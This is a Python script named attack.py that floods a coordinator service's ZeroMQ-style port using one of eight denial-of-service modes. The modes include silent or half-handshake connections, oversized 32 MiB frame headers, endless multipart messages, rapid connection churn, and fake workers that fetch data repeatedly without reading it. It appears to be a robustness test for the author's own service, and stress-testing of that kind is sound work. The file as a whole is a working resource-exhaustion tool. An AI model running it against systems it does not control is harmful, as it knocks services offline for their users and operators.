#!/usr/bin/env python3
"""Does one hostile thing to a coordinator's port for a while, and says on standard error what it did.

    attack.py HOST:PORT MODE COUNT SECONDS

    silent      COUNT connections at a time that say nothing, opened again when they are cut off
    greeted     the same, with half a CURVE handshake said
    giant       COUNT connections that each send frames of 32 MiB in place of a handshake
    early       COUNT connections that each send 8 KB of a frame in place of a handshake, and wait
    churn       connections opened and closed as fast as it goes
    multipart   COUNT connections without encryption, each one message of frames without end
    mute        COUNT connections without encryption that end their handshake and then say nothing
    unread      COUNT workers without encryption that fetch the bundle again and again and read nothing

Needs nothing but Python. Exit status 0.
"""
import re
import resource
import select
import socket
import sys
import time

GREETING = b"\xff" + bytes(8) + b"\x7f" + b"\x03\x00" + b"NULL".ljust(20, b"\0") + b"\x00" + bytes(31)
CURVE_GREETING = GREETING.replace(b"NULL" + bytes(16), b"CURVE" + bytes(15))
READY = b"\x05READY" + b"\x0bSocket-Type" + (6).to_bytes(4, "big") + b"DEALER"
HELLO = b"\x98\x01\x01\xa1w\xc4\x10" + b"attack.py-unread" + b"\xa10\x91\xa5exact\x01\x00"
SECTION = re.compile(rb"\x93[\xa1-\xbf][a-z0-9_.]{1,31}?(\xce....|\xcd..|\xcc.|[\x00-\x7f])\xc4\x20(.{32})", re.S)
PART = b"\x03" + (65536).to_bytes(8, "big") + bytes(65536)  # a long frame, with more to follow
GIANT = b"\x06" + (32 << 20).to_bytes(8, "big")  # a command of 32 MiB


def command(body):
    return b"\x04" + bytes([len(body)]) + body


def frame(body):
    return b"\x00" + bytes([len(body)]) + body


def connect(where):
    one = socket.create_connection(where, timeout=2)
    one.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return one


def shake_hands(one):
    one.sendall(GREETING)
    one.recv(len(GREETING), socket.MSG_WAITALL)
    one.sendall(command(READY))


def fetch_forever(one):
    """Becomes a worker, learns a section from WELCOME, and asks for it again and again."""
    one.sendall(frame(HELLO))
    heard, found = b"", None
    while found is None:
        more = one.recv(65536)
        if not more:
            raise OSError("closed before WELCOME")
        heard += more
        sections = [(int.from_bytes(m[1][1:] if len(m[1]) > 1 else m[1], "big"), m[2]) for m in SECTION.finditer(heard)]
        found = max(sections) if len(sections) > 2 else None
    size, digest = found
    length = min(size, 1 << 20).to_bytes(4, "big")
    fetch = frame(b"\x95\x01\x03\xc4\x20" + digest + b"\x00\xce" + length)
    return fetch * 64, size


def open_one(where, mode):
    one = connect(where)
    payload = b""
    if mode == "greeted":
        one.sendall(CURVE_GREETING)
    elif mode == "giant":
        one.sendall(CURVE_GREETING + GIANT)
        payload = bytes(1 << 18)
    elif mode == "early":
        one.sendall(CURVE_GREETING + b"\x06" + (60000).to_bytes(8, "big") + bytes(8000))
    elif mode == "multipart":
        shake_hands(one)
        payload = PART
    elif mode == "mute":
        shake_hands(one)
    elif mode == "unread":
        shake_hands(one)
        payload, _ = fetch_forever(one)
    one.setblocking(False)
    return one, payload


def churn(where, deadline):
    count = refused = 0
    while time.monotonic() < deadline:
        try:
            socket.create_connection(where, timeout=5).close()
            count += 1
        except OSError:
            refused += 1
            time.sleep(0.01)
    print(f"churn: {count} connections, {refused} refused", file=sys.stderr)


def push(one, payload, sent):
    """One send. False: the connection was ended by the other side."""
    try:
        sent[0] += one.send(payload) if payload else 0
        if not payload:
            return one.recv(4096) != b""
    except BlockingIOError:
        pass
    except OSError:
        return False
    return True


def main():
    (host, port), mode = sys.argv[1].split(":"), sys.argv[2]
    where, count, deadline = (host, int(port)), int(sys.argv[3]), time.monotonic() + float(sys.argv[4])
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    if mode == "churn":
        churn(where, deadline)
        return
    lines, opened, cut, failed, sent, said = {}, 0, 0, 0, [0], False
    poll = select.poll()
    while time.monotonic() < deadline:
        while len(lines) < count and time.monotonic() < deadline:
            try:
                one, payload = open_one(where, mode)
            except OSError:
                failed += 1
                time.sleep(0.05)
                break
            lines[one.fileno()] = (one, payload)
            poll.register(one, (select.POLLOUT if payload else select.POLLIN) | select.POLLHUP | select.POLLERR)
            opened += 1
        if len(lines) == count and not said:
            print(f"{count} connections are open", file=sys.stderr, flush=True)
            said = True
        for fd, _ in poll.poll(200):
            one, payload = lines[fd]
            if not push(one, payload, sent):
                poll.unregister(fd)
                one.close()
                del lines[fd]
                cut += 1
    print(f"{mode}: {opened} opened, {cut} cut off, {failed} refused, {sent[0] >> 20} MiB sent", file=sys.stderr)


main()
